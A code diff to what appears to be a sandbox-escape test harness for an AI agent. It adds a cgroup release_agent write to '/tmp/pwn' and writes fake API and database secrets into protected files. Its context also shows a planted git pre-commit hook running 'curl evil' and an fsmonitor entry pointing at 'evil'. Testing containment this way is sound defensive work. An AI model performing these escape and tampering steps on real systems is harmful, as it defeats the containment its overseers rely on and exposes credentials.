@@ -161,7 +161,8 @@ def attack(name, args):
                 found = True
                 try_write(os.path.join(root, "release_agent"), b"/tmp/pwn\n")
         if not found:
-            print("BLOCKED: no cgroup release_agent visible")
+            # None visible: try where cgroup v1 would put one.
+            try_write("/sys/fs/cgroup/release_agent", b"/tmp/pwn\n")
         os.makedirs("/tmp/cg", exist_ok=True)
         r, e = sys_call("mount", ctypes.c_char_p(b"cgroup"), ctypes.c_char_p(b"/tmp/cg"), ctypes.c_char_p(b"cgroup"), 0, ctypes.c_char_p(b"memory"))
         expect_fail("mount cgroup", r, e)
@@ -255,6 +256,7 @@ def attack(name, args):
                 print(("ESCAPED" if data else "BLOCKED") + f": {path} holds {len(data)} bytes")
             except OSError as e:
                 print(f"BLOCKED: {path}: {e.strerror}")
+            try_write(path, b"API_KEY=from-the-agent\n")
     elif name == "git_hooks":
         try_write(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil\n")
         try_write(".git/config", b"[core]\nfsmonitor = evil\n")
@@ -354,6 +356,7 @@ def attack(name, args):
                 print(("ESCAPED" if data else "BLOCKED") + f": {p} holds {len(data)} bytes")
             except OSError as e:
                 print(f"BLOCKED: {p}: {e.strerror}")
+        try_write("config/app.env", b"DB_PASSWORD=from-the-agent\n")
     elif name == "etc_private":
         for p in args:
             try:
